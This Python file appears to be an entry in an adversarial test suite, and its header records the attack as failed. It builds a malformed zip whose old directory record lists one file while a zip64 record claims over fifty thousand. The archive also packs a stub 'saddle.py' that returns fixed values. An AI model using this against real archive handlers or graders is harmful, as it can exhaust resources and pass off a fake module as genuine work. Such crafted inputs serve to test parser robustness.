# attack: a zip whose old record lists one file, while its newer record lists fifty thousand
# kind: archive
# grade: 1.b
# outcome: none, failed
# module: saddle

import io
import struct
import zipfile

COUNT = 50_000


def build(folder, targets):
    small = io.BytesIO()
    with zipfile.ZipFile(small, "w") as archive:
        archive.writestr("saddle.py", "def update_map(*args, **named): return 1, 1\n")
        archive.writestr("other.txt", b"")
    data = small.getvalue()
    end = data.rindex(b"PK\5\6")
    (start,) = struct.unpack_from("<L", data, end + 16)
    first = data.index(b"PK\1\2", start + 4) - start
    entries = data[start : start + first] + data[start + first : end] * COUNT
    body = data[:start] + entries
    numbers = 44, 45, 45, 0, 0, COUNT + 1, COUNT + 1, len(entries), start
    newer = struct.pack("<4sQ2H2L4Q", b"PK\6\6", *numbers)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, len(body), 1)
    older = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, first, start, 0)
    path = folder / "little.zip"
    path.write_bytes(body + newer + locator + older)
    return path
